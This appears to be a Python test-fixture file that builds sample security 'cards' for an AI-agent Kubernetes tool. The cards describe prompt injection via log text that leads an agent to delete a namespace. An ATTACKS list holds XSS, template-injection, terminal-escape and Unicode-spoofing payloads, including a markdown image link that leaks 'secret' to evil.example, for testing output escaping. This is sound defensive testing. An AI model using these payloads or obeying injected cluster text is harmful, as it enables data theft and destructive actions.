"""Cards to show: one of each status, complete to the last field, and one made of attacks."""

from decimal import Decimal
from typing import Any

from pipeline import model
from pipeline.taxonomy import factors, layers

LISTING = (
    "Kube Pilot is an MCP server that gives an assistant direct access to a Kubernetes cluster. "
    "It reads the kubeconfig of the person who runs it and acts with whatever permissions that identity has. "
    "Tools: list_pods, get_logs, apply_manifest, delete_namespace, scale_deployment, exec_in_pod. "
    "Start it with --read-only to switch off every tool that writes. "
    "Each call is appended to an audit file with the tool, its arguments and the result. "
    "Works with any MCP client, such as an editor or a chat application."
)
_CUTS = [0, *(LISTING.index(word) for word in ("It reads", "Tools:", "Start it", "Each call", "Works with"))]

QUOTES = {
    "access": "gives an assistant direct access to a Kubernetes cluster",
    "identity": "acts with whatever permissions that identity has",
    "tools": "apply_manifest, delete_namespace, scale_deployment, exec_in_pod",
    "read_only": "Start it with --read-only to switch off every tool that writes",
    "audit": "Each call is appended to an audit file with the tool, its arguments and the result",
    "client": "Works with any MCP client",
}

_ESTIMATES: dict[str, tuple[str, str, str | None, str]] = {
    "autonomy_of_action": ("0.8", "Writes to a live cluster and describes no approval step.", "access", "0.7 0.8"),
    "goal_driven_planning": ("0.5", "The client's model strings calls together; tasks are bounded.", None, "0.3 0.7"),
    "self_modification": ("0.1", "Nothing suggests that it alters itself.", None, "0.0 0.2"),
    "dynamic_tool_use": ("0.9", "Deletes namespaces and runs commands inside pods.", "tools", "0.9 0.9"),
    "persistent_memory": ("0.2", "No store is described.", None, "0.0 0.3"),
    "contextual_awareness": ("0.6", "Reads the state and logs of the whole cluster.", "access", "0.5 0.7"),
    "dynamic_identity": ("0.7", "Borrows a person's kubeconfig, contexts included.", "identity", "0.7 0.8"),
    "multi_agent_interactions": ("0.3", "One client at a time, whichever it is.", "client", "0.2 0.4"),
    "non_determinism": ("0.4", "A language model picks tool and arguments.", None, "0.3 0.6"),
    "opacity_reflexivity": ("0.5", "Calls are on file, the reasons for them are not.", "audit", "0.4 0.5"),
    "natural_language_interface": ("1.0", "Plain requests become cluster operations.", "access", "0.9 1.0"),
}

_THREATS = {
    "L1": ("Prompt injection through cluster content", "Text in a log or an annotation can pass for an instruction."),
    "L3": ("Destructive tool misuse", "A misread request ends in delete_namespace, with no confirmation between."),
    "L4": ("Theft of the kubeconfig", "Whoever controls the host of the server holds the person's cluster rights."),
    "L5": ("Intent is not recorded", "The audit file tells what was called, not which request led to it."),
    "L6": ("Over-permissive RBAC", "With cluster-admin in the kubeconfig the whole cluster is within reach."),
}
_IDS = {
    "L1": ("ASI01", "OWASP-T6"),
    "L3": ("ASI02", "OWASP-T2"),
    "L4": ("ASI03", "OWASP-T3"),
    "L5": ("OWASP-T8",),
    "L6": ("ASI03", "OWASP-T3"),
}
_LAYERS: dict[str, tuple[str, str | None, str | None]] = {
    "L1": ("The listing does not say which model drives the tools.", None, "Which models have you tested it with?"),
    "L2": ("No store of its own is described; cluster state flows through unfiltered.", None, None),
    "L3": ("Six tools, four of which change the cluster, are offered to any caller.", "tools", None),
    "L4": ("The process runs where the kubeconfig lies and inherits its reach.", "identity", None),
    "L5": ("Calls are appended to a file beside the server.", "audit", "Can the audit file be sent to a collector?"),
    "L6": (
        "Authorisation is left to the cluster's own RBAC, apart from one switch.",
        "read_only",
        "Can --read-only be enforced by policy rather than by whoever starts it?",
    ),
    "L7": ("Other agents may connect; trust between them is not spoken of.", None, None),
}


def quoted(name: str) -> tuple[model.Evidence, ...]:
    """Evidence that really stands in ``LISTING``."""
    quote = QUOTES[name]
    start = LISTING.index(quote)
    passage = sum(cut <= start for cut in _CUTS)
    return (model.Evidence(quote=quote, passage=passage, start=start, end=start + len(quote)),)


def _estimate(value: str, rationale: str, quote: str | None, span: str) -> model.Estimate:
    low, high = span.split()
    return model.Estimate(
        value=Decimal(value),
        basis="stated" if quote else "inferred",
        rationale=rationale,
        evidence=quoted(quote) if quote else (),
        low=Decimal(low),
        high=Decimal(high),
    )


def _layer(key: str) -> model.Layer:
    commentary, quote, question = _LAYERS[key]
    threats = ()
    if key in _THREATS:
        title, description = _THREATS[key]
        threats = (
            model.Threat(
                title=title,
                description=description,
                ids=_IDS[key],
                mitigations=("Ask a person before any call that deletes", "Grant a role for one namespace only"),
                evidence=quoted(quote) if quote else (),
            ),
        )
    return model.Layer(
        layer=key,
        name=layers.NAMES[key],
        certain=quote is not None,
        commentary=commentary if quote else layers.NOT_CERTAIN + commentary,
        threats=threats,
        questions=(question,) if question else (),
        evidence=quoted(quote) if quote else (),
    )


def _mitigation() -> model.Mitigation:
    return model.Mitigation(
        value=Decimal("0.95"),
        proposed=Decimal("0.90"),
        low=Decimal("0.95"),
        high=Decimal("1.00"),
        rationale="One switch and one log, both left to whoever starts the server.",
        evidence=quoted("read_only"),
        controls=(
            model.Control(
                kind="read-only mode",
                label="demonstrated",
                description="A start-up flag that removes the writing tools.",
                evidence=quoted("read_only"),
            ),
            model.Control(kind="audit log", label="claimed", description="A file of calls.", evidence=quoted("audit")),
        ),
    )


def _whole() -> dict[str, Any]:
    digest = "4b0e2f6f3a3f6a9f7a9d2a44b1f5a2c27d0b6f6f5d0b8c8f1f0d9a61a5c3e7d1"
    return {
        "id": "9c1185a5c5e9fc54612808977ee8f548b2258d31c8f6e2b7a3d0f4e19b6c7a20",
        "slug": "kube-pilot",
        "name": "Kube Pilot",
        "status": "complete",
        "listing": model.CardListing(
            source="https://kube-pilot.example/docs/overview",
            kind="html",
            sha256=digest,
            fetched_at="2026-11-20T09:13:58Z",
            chars=len(LISTING),
            raw_sha256=digest[::-1],
        ),
        "summary": (
            "Kube Pilot hands a language model the cluster rights of whoever starts it, deletion and remote "
            "commands included. A read-only switch and a call log exist, but neither stands between a "
            "mistaken request and a deleted namespace."
        ),
        "factors": {key: _estimate(*_ESTIMATES[key]) for key in factors.ALL_KEYS},
        "cvss": model.Cvss(
            vector="CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:H/VA:H/SC:L/SI:L/SA:L",
            base=Decimal("8.7"),
            scenario="Agentic AI Tool Misuse",
            rationale="Injected text reaches delete_namespace with the rights of a cluster operator.",
            evidence=quoted("tools"),
            low=Decimal("7.5"),
            high=Decimal("9.0"),
        ),
        "threat_multiplier": model.ThreatMultiplier(
            value=Decimal("1.05"),
            rationale="Tool misuse of this kind has been shown in public.",
            low=Decimal("0.95"),
            high=Decimal("1.10"),
        ),
        "mitigation_factor": _mitigation(),
        "score": model.Score(
            profile="directory",
            cvss_base=Decimal("8.7"),
            factor_sum=Decimal("5.0"),
            aars=Decimal("0.6825"),
            threat_multiplier=Decimal("1.05"),
            mitigation_factor=Decimal("0.95"),
            aivss=Decimal("8.9"),
            severity="High",
            low=Decimal("8.1"),
            high=Decimal("9.3"),
        ),
        "interval": model.Interval(low=Decimal("8.1"), high=Decimal("9.3"), bands={"High": 0.774, "Critical": 0.226}),
        "questions": (
            model.VendorQuestion(
                about="layers.L1", question="Which models have you tested it with?", moves=Decimal("0.3")
            ),
            model.VendorQuestion(about="layers.L7", question="Which other agents may call it?", moves=None),
        ),
        "layers": tuple(_layer(key) for key in layers.KEYS),
        "product": model.Product(
            kind="operations_server",
            because="It deploys and deletes the workloads of a cluster.",
            evidence=quoted("tools"),
        ),
        "chains": (
            model.Chain(
                title="A line in a log deletes a namespace",
                path=("L2", "L3", "L4"),
                description="A pod writes words that ask for a deletion; the tool call follows with a person's rights.",
                breaks_at="Approval before every deletion.",
                evidence=quoted("tools"),
            ),
            model.Chain(
                title="A second agent borrows the kubeconfig",
                path=("L7", "L3", "L6"),
                description="Another agent calls the server, which acts as the person who started it.",
                breaks_at="An identity of its own for each caller.",
            ),
        ),
        "doubt": model.Doubt(
            table="gpt-4.1-2025-04-14, 35 reference cards",
            widened=Decimal("1.52"),
            because=("the listing has only 58 words",),
            misses=((*[Decimal("0.1")] * 10, Decimal("-0.4"), Decimal("0.05")),),
        ),
        "comparables": (
            model.Comparable(slug="kubernetes", name="Kubernetes", similarity=0.6127),
            model.Comparable(slug="mcp-k8s-go", name="Kubernetes MCP (mcp-k8s-go)", similarity=0.4418),
        ),
        "expected": {
            "opacity_reflexivity": model.Expected(value=Decimal("0.31"), bound=Decimal("0.15")),
            "cvss": model.Expected(value=Decimal("8.2"), bound=Decimal("2.10")),
        },
        "flags": (
            model.Flag(
                kind="outlier",
                severity="low",
                message="Opacity is 0.2 above what the nearest reference cards show.",
                where="factors.opacity_reflexivity",
            ),
            model.Flag(
                kind="unverified_quote",
                severity="high",
                message="The quote 'asks before it deletes' does not stand in passage 3; the control does not count.",
                where="mitigation_factor.controls.2",
            ),
        ),
        "provenance": model.Provenance(
            estimator="llm",
            model="gpt-4.1-2025-04-14",
            prompts={"factors": "f3b1c02d9a77", "layers": "07aa5be1c4d2"},
            samples=3,
            profile="directory",
            created_at="2026-11-20T09:14:21Z",
            tokens=model.Tokens(input=18_412, cached=12_288, output=6_904),
            cost_usd=0.0817,
            software="threatcard 0.1.0",
            exemplars="9e7d6c1c7d77",
        ),
    }


def a_card(**changes: Any) -> model.Card:
    """A complete card of a model's making; ``changes`` replace top-level fields."""
    return model.Card(**(_whole() | changes))


def a_partial_card(**changes: Any) -> model.Card:
    """The factors failed, the layers are there; estimated without a model."""
    unknown = model.Estimate(value=None, basis="unknown", rationale="")
    whole = _whole()
    partial = {
        "status": "partial",
        "score": None,
        "interval": None,
        "factors": whole["factors"] | {"dynamic_identity": unknown, "non_determinism": unknown},
        "cvss": whole["cvss"].model_copy(update={"vector": None, "base": None, "evidence": ()}),
        "flags": (
            model.Flag(
                kind="missing",
                severity="high",
                message="The factors answer was cut at the token limit twice: two factors and the vector are missing.",
                where="factors",
            ),
            *whole["flags"][:1],
        ),
        "provenance": whole["provenance"].model_copy(
            update={
                "estimator": "comparables", "model": None, "prompts": {}, "samples": 1,
                "tokens": model.Tokens(), "cost_usd": None,
            }
        ),
    }  # fmt: skip
    return a_card(**(partial | changes))


def _empty(status: str, flag: model.Flag) -> dict[str, Any]:
    return {
        "status": status,
        "summary": "",
        "score": None,
        "interval": None,
        "questions": (),
        "expected": {},
        "factors": {},
        "cvss": model.Cvss(vector=None, base=None, scenario=None, rationale=""),
        "threat_multiplier": model.ThreatMultiplier(value=None, rationale=""),
        "mitigation_factor": model.Mitigation(value=None, rationale=""),
        "layers": (),
        "comparables": (),
        "flags": (flag,),
    }


def an_inconclusive_card(**changes: Any) -> model.Card:
    """A page that was only the shell of a script."""
    flag = model.Flag(
        kind="script_shell",
        severity="high",
        message="The page holds 41 characters of text and 14 scripts: its words are drawn by a browser.",
        where="listing",
    )
    return a_card(**(_empty("inconclusive", flag) | changes))


def a_failed_card(**changes: Any) -> model.Card:
    """A model that would not answer."""
    flag = model.Flag(
        kind="refused", severity="high", message="The model refused both questions: 'I cannot help'.", where=""
    )
    return a_card(**(_empty("failed", flag) | changes))


CARDS = {
    "complete": a_card,
    "partial": a_partial_card,
    "inconclusive": an_inconclusive_card,
    "failed": a_failed_card,
}
"""A builder for each status."""

ATTACKS = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "</style></title></textarea></svg><iframe src='https://evil.example'></iframe>",
    "' onmouseover='alert(1)' style='background:url(https://evil.example/x)'",
    "![leak](https://evil.example/?q=secret) [click](javascript:alert(1)) <https://evil.example>",
    "https://evil.example www.evil.example //evil.example a@evil.example mailto:a@evil.example",
    "[ref]: https://evil.example 'x' [^1] [[wiki]] @someone #12 GH-7 org/repo#3",
    "\n# heading\n> quote\n- item\n1. one\n---\n===\n```\nfence\n~~~\n| a | b |\n|---|---|\n<!-- ",
    "**bold** _em_ ~~gone~~ `code` ``x` $math$ $$x$$ \\ &lt;b&gt; &#60;",
    "\x1b[31mred\x1b[2J\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m \x90q\x9c",
    "nul\x00 bell\x07 back\x08\x08 tab\t return\r\rover del\x7f nel\x85 ls\u2028 ps\u2029",
    "\u202egpj.exe\u202c \u2066iso\u2069 \u200fmark zero\u200bwidth \ufeffbom tag\U000e0041\U000e0042 soft\u00adhyphen",
    "[bold red]rich[/bold red] [link=https://evil.example]x[/link] [/] :warning: {{ 7*7 }} {% raw %} ${7*7}",
)
"""What a listing, or a model that believed one, might put into any field."""


def _poisoned(value: Any, attack: str) -> Any:
    """The same record with ``attack`` in every free text that it holds."""
    if isinstance(value, model.Record):
        return type(value)(**{k: _poisoned_field(value, k, attack) for k in type(value).model_fields})
    if isinstance(value, tuple):
        return tuple(_poisoned(item, attack) for item in value)
    if isinstance(value, dict):
        return {k if k in factors.ALL_KEYS else k + attack: _poisoned(v, attack) for k, v in value.items()}
    return attack if isinstance(value, str) else value


_CLOSED = {"schema_version", "status", "kind", "basis", "severity", "label", "estimator"}


def _poisoned_field(record: model.Record, field: str, attack: str) -> Any:
    value = getattr(record, field)
    is_free = field not in _CLOSED or (field, type(record)) in {
        ("kind", model.Flag), ("kind", model.Control), ("severity", model.Score),
    }  # fmt: skip
    return _poisoned(value, attack) if is_free else value


def a_hostile_card(attack: str = " ".join(ATTACKS), **changes: Any) -> model.Card:
    """A card with ``attack`` in every field that takes free text."""
    fallen = _whole()["provenance"].model_copy(update={"fell_back": ("answer_format=json_object",)})
    poisoned: model.Card = _poisoned(a_card(provenance=fallen), attack)
    return a_card(**({name: getattr(poisoned, name) for name in model.Card.model_fields} | changes))
